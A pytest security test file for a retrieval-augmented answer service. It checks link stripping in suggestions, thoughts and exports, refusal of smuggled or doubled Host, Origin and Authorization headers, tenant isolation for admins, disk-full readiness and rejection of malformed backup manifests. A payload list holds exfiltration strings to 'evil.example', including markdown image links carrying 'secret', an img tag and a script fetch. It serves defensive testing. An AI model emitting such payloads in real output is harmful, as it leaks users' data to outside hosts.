"""The doors beside the main one: what is said beside an answer, headers, tenants, the disk."""

import shutil
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx2
import pytest
import pytest_asyncio

from ragstone.answer.stream import AnswerStream, plain
from ragstone.answer.thoughts import ThoughtStream
from ragstone.backup.archive import ArchiveReader
from ragstone.backup.manifest import MANIFEST
from ragstone.core.errors import InputError
from ragstone.core.events import Event, Thinking
from tests.attack.house import OPERATOR, House, a_house
from tests.credentials import bearer
from tests.in_turn import in_turn

pytestmark = pytest.mark.asyncio(loop_scope="module")

PAYLOADS = (
    "![x](https://evil.example/?q=secret)",
    "[click](https://evil.example/?q=secret)",
    "https://evil.example/?q=secret",
    "<img src='https://evil.example/?q=secret'>",
    "<script>fetch('//evil.example')</script>",
)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def house(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[House]:
    async with a_house(tmp_path_factory.mktemp("doors")) as house:
        yield house


def is_live(text: str) -> bool:
    """Whether whoever shows the text would load, link or run something of it."""
    return "](" in text or "https://evil" in text or "<img" in text or "<script" in text


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_suggestions_and_texts_beside_the_answer_hold_no_links(payload: str) -> None:
    stream = AnswerStream(())
    said = stream.feed(f"The lamp.\nSUGGESTED_QUESTIONS:\n1. What of {payload} then?\n")
    said += stream.end()
    for text in (said, *stream.suggested, plain(f"A title {payload}")):
        assert not is_live(text), text
    assert len(stream.suggested) == 1


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("size", [1, 3, 1000])
async def test_thoughts_hold_no_links_however_they_are_cut(payload: str, size: int) -> None:
    events: list[Event] = []

    async def emit(event: Event) -> None:
        events.append(event)

    thoughts = ThoughtStream((), emit)
    text = f"Let me see. {payload} And so on."
    for start in range(0, len(text), size):
        await thoughts.add(text[start : start + size])
    await thoughts.end()
    said = "".join(event.text for event in events if isinstance(event, Thinking))
    assert not is_live(said), said
    assert said.startswith("Let me see.")
    assert said.endswith("And so on.")


async def test_an_exported_conversation_holds_no_links(house: House) -> None:
    key = await house.key("reader", "eva")
    await house.ask(key, f"What battery {PAYLOADS[0]} does the lamp have?", "out")
    found = await house.send(key, "GET", "/api/v1/conversations/out?export=markdown")
    heads = [line for line in found.text.splitlines() if line.startswith("#")]
    assert heads
    assert not any(map(is_live, heads))


@in_turn(
    "headers",
    [
        [("host", "127.0.0.1"), ("host", "evil.example")],
        [("host", "127.0.0.1"), ("host", "127.0.0.1")],
        [("host", "127.0.0.1@evil.example")],
        [("host", "127.0.0.1/evil.example")],
        [("host", "127.0.0.1 evil.example")],
        [("host", "127.0.0.1:80:90")],
        [("host", "evil.example")],
        [("origin", "http://127.0.0.1"), ("origin", "https://evil.example")],
        [("content-type", "application/json"), ("content-type", "multipart/form-data")],
    ],
)
async def test_hosts_and_doubled_headers_are_refused(
    house: House, headers: list[tuple[str, str]]
) -> None:
    transport: Any = house.http._transport
    given = headers if any(name == "host" for name, _ in headers) else [
        ("host", "127.0.0.1"), *headers
    ]  # fmt: skip
    raw = [(name.encode(), value.encode()) for name, value in given]
    status: list[int] = []
    scope = {
        "type": "http", "http_version": "1.1", "method": "POST", "path": "/v1/chat/completions",
        "raw_path": b"/", "query_string": b"", "headers": raw, "scheme": "http",
        "client": ("127.0.0.1", 5), "server": ("127.0.0.1", 80), "root_path": "",
    }  # fmt: skip

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": b"{}", "more_body": False}

    async def send(message: dict[str, Any]) -> None:
        status.extend([message["status"]] if "status" in message else [])

    await transport.app(scope, receive, send)
    assert status in ([401], [403]), status
    if headers != [("host", "evil.example")]:
        assert status == [403]


async def test_two_credentials_are_refused_even_if_they_are_equal(house: House) -> None:
    key = (await house.key())["authorization"]
    headers = httpx2.Headers([("authorization", key), ("authorization", key)])
    found = await house.http.get("/api/v1/collections", headers=headers)
    assert found.status_code in (401, 403)


CHANGES = (
    ("PUT", "/api/v1/settings", {"scope": "global", "values": {"rag.top_k": 3}}),
    ("PUT", "/api/v1/settings", {"scope": "tenant:acme", "values": {"rag.top_k": 3}}),
    ("PUT", "/api/v1/settings/rag.top_k", {"scope": "collection:acme/x", "value": 3}),
    ("POST", "/api/v1/settings/unset", {"scope": "tenant:acme", "keys": ["rag.top_k"]}),
    ("DELETE", "/api/v1/settings/rag.top_k?scope=tenant:acme", None),
    ("GET", "/api/v1/settings?tenant=acme", None),
    ("GET", "/api/v1/settings/audit", None),
    ("PUT", "/api/v1/prompts/answer", {"tenant": "acme", "text": "Say yes."}),
    ("PUT", "/api/v1/prompts/answer", {"text": "Say yes."}),
    ("POST", "/api/v1/prompts/answer/rollback", {"tenant": "acme", "version": 1}),
    ("DELETE", "/api/v1/prompts/answer?tenant=acme", None),
    ("POST", "/api/v1/topics", {"tenant": "acme", "topics": [{"term": "x"}]}),
    ("POST", "/api/v1/topics/remove", {"tenant": "acme", "terms": ["x"]}),
    ("POST", "/api/v1/keys", {"name": "x", "tenant": "acme"}),
    ("GET", "/api/v1/keys?tenant=acme", None),
    ("GET", "/api/v1/stats?tenant=acme", None),
    ("GET", "/api/v1/traces?tenant=acme", None),
)


@pytest.mark.parametrize("own", ["default", "globex"])
async def test_an_admin_changes_nothing_of_another_tenant_or_of_all(house: House, own: str) -> None:
    admin = await house.key("admin", "root", tenant=own)
    for method, path, body in CHANGES:
        found = await house.send(admin, method, path, body)
        assert found.status_code == 403, (path, found.text)
    mine = {"scope": f"tenant:{own}", "values": {"rag.top_k": 3}}
    assert (await house.send(admin, "PUT", "/api/v1/settings", mine)).status_code == 200
    mine = {"scope": "global", "values": {"rag.top_k": 11}}
    changed = await house.send(bearer(OPERATOR), "PUT", "/api/v1/settings", mine)
    assert changed.status_code == 200


async def test_a_full_disk_is_told(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
    assert (await house.http.get("/ready")).status_code == 200
    usage = shutil.disk_usage("/")
    with monkeypatch.context() as patched:
        patched.setattr(shutil, "disk_usage", lambda place: usage._replace(free=1000))
        found = await house.http.get("/ready")
    assert found.status_code == 503
    assert "disk" in found.json()["checks"]
    assert "/" not in found.json()["checks"]["disk"]


def packed(folder: Path, **parts: str) -> Path:
    file = folder / "backup.zip"
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
        for name, text in parts.items():
            made.writestr(MANIFEST if name == "manifest" else name, text)
    return file


HEAD = '{"version": "1", "schema": "0015", "made": 1.0, "format": 1, "parts": [], '


@pytest.mark.parametrize(
    "manifest",
    [
        HEAD + '"rows": 0, "state": 1000000000000}',
        HEAD + '"rows": 0, "state": -1}',
        HEAD + '"rows": 5, "state": 0}',
        HEAD + '"rows": "many", "state": 0}',
        HEAD + '"rows": 0, "state": [1]}',
        '{"format": 1, "parts": {"a": 1}}',
        '{"format": 1, "parts": [{"collection": 7}]}',
        "[]",
        " " * 200_000_000,
    ],
    ids=["many", "negative", "rows", "text", "list", "object", "collection", "array", "large"],
)
async def test_a_backup_whose_manifest_lies_is_refused(tmp_path: Path, manifest: str) -> None:
    with pytest.raises(InputError, match="backup"):
        ArchiveReader(packed(tmp_path, manifest=manifest)).check()
